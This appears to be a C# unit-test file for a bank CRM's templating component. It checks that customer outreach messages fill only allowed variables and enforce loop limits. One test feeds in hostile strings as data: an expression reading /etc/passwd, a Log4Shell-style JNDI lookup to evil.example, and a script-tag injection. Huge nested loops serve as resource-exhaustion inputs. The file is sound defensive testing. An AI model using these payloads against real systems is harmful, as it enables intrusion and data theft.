using BankCrm.Data.Engagement.Outreach;

namespace BankCrm.Data.Tests.Engagement;

public sealed class MessageTemplatesTests
{
    [Fact]
    public void Render_WhenTemplateUsesTheModel_FillsTheVariables()
    {
        var text = MessageTemplates.Render("{{ customer_name }}您好，我是{{ branch_name }}的{{ rm_name }}，电话 {{ rm_phone }}。", MessageModel.Sample);

        Assert.Equal("张先生您好，我是上海陆家嘴支行的李明，电话 021-5888 0000。", text);
    }

    [Theory]
    [InlineData("@(System.IO.File.ReadAllText(\"/etc/passwd\"))")]
    [InlineData("${jndi:ldap://evil.example/a}")]
    [InlineData("<script>alert(1)</script>")]
    public void Render_WhenTextLooksLikeCode_KeepsItLiteral(string hostile)
    {
        Assert.Null(MessageTemplates.Validate(hostile));
        Assert.Equal(hostile, MessageTemplates.Render(hostile, MessageModel.Sample));
    }

    [Theory]
    [InlineData("{{ customer.id_number }}")]
    [InlineData("{{ password }}")]
    public void Validate_WhenTemplateNamesAnUnknownVariable_RefusesWithTheAllowedList(string template)
    {
        var error = MessageTemplates.Validate(template);

        Assert.StartsWith("模板只能使用这些变量：customer_name、rm_name、rm_phone、branch_name、product_name、offer、today（", error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("{{ 7*7 }}", "模板语法错误：")]
    [InlineData("{% if %}", "模板语法错误：")]
    [InlineData("", "模板不能为空")]
    public void Validate_WhenTemplateIsNotUsable_SaysWhy(string template, string reason) =>
        Assert.StartsWith(reason, MessageTemplates.Validate(template), StringComparison.Ordinal);

    [Fact]
    public void Render_WhenTemplateLoopsOverAHugeRange_StopsAtTheCollectionLimit()
    {
        var error = Assert.Throws<InvalidOperationException>(() => MessageTemplates.Render("{% for i in (1..100000) %}{% for j in (1..100000) %}x{% endfor %}{% endfor %}", MessageModel.Sample));

        Assert.StartsWith("The maximum materialized collection size of 100 ", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Render_WhenTemplateLoopsForLong_StopsAtTheStepLimit()
    {
        var error = Assert.Throws<InvalidOperationException>(() => MessageTemplates.Render("{% for i in (1..100) %}{% for j in (1..100) %}{% for k in (1..100) %}{% endfor %}{% endfor %}{% endfor %}", MessageModel.Sample));

        Assert.StartsWith("The maximum number of 10000 steps has been reached", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void ValidateFields_WhenBodyHasArithmetic_NamesTheBodyField()
    {
        var errors = MessageTemplates.ValidateFields("{{ customer_name }}的专属提醒", "{{7*7}}");

        var error = Assert.Single(errors);
        Assert.Equal("body", error.Field);
        Assert.StartsWith("正文模板：", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void ValidateFields_WhenSubjectNamesAnUnknownVariable_NamesTheSubjectField() =>
        Assert.Equal("subject", Assert.Single(MessageTemplates.ValidateFields("{{ id_number }}", "您好")).Field);

    [Fact]
    public void ValidateFields_WhenSubjectIsEmpty_AcceptsIt() => Assert.Empty(MessageTemplates.ValidateFields(null, "{{ customer_name }}您好"));
}
